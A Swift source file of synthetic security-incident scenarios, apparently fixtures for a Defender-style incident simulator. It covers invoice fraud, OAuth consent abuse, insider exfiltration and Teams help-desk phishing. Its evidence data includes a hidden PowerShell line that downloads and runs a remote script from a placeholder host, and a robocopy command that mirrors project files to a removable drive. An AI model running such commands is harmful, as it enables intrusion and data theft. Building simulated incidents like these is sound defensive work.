extension Story {
  static let invoiceFraud = Story(
    names: [
      "BEC financial fraud attempt involving {user}", "Suspicious inbox manipulation rule involving one user",
      "Exfiltration incident involving one user (mail forwarding)",
    ],
    description: "A mailbox was taken over; a rule hides the answers of a supplier while payment details are changed.",
    severity: .high, classification: .truePositive, determination: .compromisedAccount,
    alerts: [
      AlertTemplate(
        "Suspicious inbox rule was created",
        "A rule moves every message with words like invoice or payment into a folder that nobody opens.",
        "DefenseEvasion", ["T1564.008"], .medium, .microsoftDefenderForCloudApps, "cloudAppSecurity", at: 0,
        actions: "Delete the rule, reset the password, and warn the finance department of {company}.",
        evidence: [
          .mailbox(1), .inboxRule(name: "..", user: 1), .attackerIP(1), .cloudApp(20_893, "Microsoft Exchange Online"),
        ]),
      AlertTemplate(
        "Suspicious mail forwarding activity",
        "Messages are sent on to an address outside of the organization.",
        "Collection", ["T1114.003"], .low, .microsoftDefenderForOffice365, "microsoftDefenderForOffice365", at: 22,
        actions: "Remove the forwarding address and find out which messages were sent.",
        evidence: [.mailbox(1), .user(1), .message(subject: "Changed bank details for invoice 20418", recipient: 2)]),
      AlertTemplate(
        "Financial fraud attempt from a compromised mailbox",
        "An answer in an existing conversation asks to pay to another account.",
        "SuspiciousActivity", ["T1534", "T1657"], .high, .microsoft365Defender, "microsoft365Defender", at: 71,
        actions: "Call the supplier on a known number before anything is paid.",
        evidence: [
          .user(1), .user(2), .submission(subject: "Changed bank details for invoice 20418", user: 2),
          .mailCluster(subject: "Changed bank details"),
        ]),
    ])

  static let malignantApp = Story(
    names: [
      "Malicious OAuth app consent involving {user}", "App with unusual mail access was consented to",
      "Persistence incident involving an OAuth application",
    ],
    description: "An unverified application got access to mail after a user consented to it.",
    severity: .medium, classification: .truePositive, determination: .phishing,
    alerts: [
      AlertTemplate(
        "Consent to a suspicious application",
        "A user allowed an application of an unverified publisher to read mail and to stay signed in.",
        "Persistence", ["T1528"], .medium, .microsoftAppGovernance, "appGovernancePolicy", at: 0,
        actions: "Disable the application and revoke its grants.",
        evidence: [.oauthApp("Mail Merge Helper"), .user(1), .url("/consent"), .cloudRequest]),
      AlertTemplate(
        "Application reads an unusual number of messages",
        "The application read the mail of several weeks within minutes.",
        "Collection", ["T1114.002"], .high, .microsoftAppGovernance, "appGovernanceDetection", at: 37,
        actions: "Check what was read and tell the data protection officer of {company}.",
        evidence: [.oauthApp("Mail Merge Helper"), .mailbox(1), .servicePrincipal("Mail Merge Helper")]),
    ])

  static let insider = Story(
    names: [
      "Data exfiltration to a personal cloud storage involving {user}", "Exfiltration incident involving one user",
      "Risky activity of a leaving employee ({account})",
    ],
    description: "A user who leaves soon copied confidential files to a private storage and to a removable drive.",
    severity: .medium, classification: .truePositive, determination: .maliciousUserActivity,
    alerts: [
      AlertTemplate(
        "Confidential files were shared with a private account",
        "Files with a confidential label were uploaded to a service that is not approved.",
        "Exfiltration", ["T1567.002"], .medium, .dataLossPrevention, "microsoftDataLossPrevention", at: 0,
        actions: "Talk to the manager and to HR before the user is approached.",
        evidence: [
          .user(1), .device(1), .cloudApp(12_260, "PrivateBox"),
          .file("Price list 2026.xlsx", path: #"C:\Users\{account}\Documents"#),
        ]),
      AlertTemplate(
        "Data leak by a departing user",
        "The volume of copied files is far above what is usual for the user.",
        "Exfiltration", ["T1052.001"], .medium, .microsoftInsiderRiskManagement, "microsoftInsiderRiskManagement",
        at: 130, actions: "Preserve the mailbox and the device for an investigation.",
        evidence: [
          .user(1), .device(1), .fileHash("Price list 2026.xlsx"),
          .process("robocopy.exe", command: #"robocopy.exe C:\Projects E:\ /MIR /MT:32"#, parent: "cmd.exe", user: 1),
        ]),
    ])

  static let teamsPhishing = Story(
    names: [
      "Teams phishing by an external tenant involving {user}", "Remote help abuse on {device} after a Teams chat",
      "Initial access incident involving Teams messages to multiple users",
    ],
    description: "A stranger who calls himself the help desk chats with users and gets one to start a remote session.",
    severity: .medium, classification: .truePositive, determination: .phishing,
    alerts: [
      AlertTemplate(
        "Malicious message from outside in Teams",
        "An external account sent a link that was judged malicious to several users.",
        "InitialAccess", ["T1566.003"], .medium, .microsoftDefenderForOffice365, "microsoftDefenderForOffice365",
        at: 0, actions: "Block the external domain in Teams and remove the messages.",
        evidence: [
          .teamsMessage(text: "IT help desk of {company}: please confirm your device", recipient: 1), .user(1),
          .url("/support"),
        ]),
      AlertTemplate(
        "Remote help session followed by a suspicious download",
        "Minutes after a remote help session began, a script fetched and started a program.",
        "Execution", ["T1219", "T1059.001"], .high, .microsoftDefenderForEndpoint, "microsoftDefenderForEndpoint",
        at: 19, actions: "Isolate the device and end the session.", investigation: "running",
        evidence: [
          .device(1), .user(1), .url("/get/agent.ps1"), .connection(port: 443),
          .file("agent.exe", path: #"C:\Users\{account}\AppData\Local\Temp"#),
          .process(
            "powershell.exe", command: "powershell.exe -nop -w hidden -c \"iwr https://{domain}/get/agent.ps1 | iex\"",
            parent: "quickassist.exe", user: 1),
        ]),
    ])
}
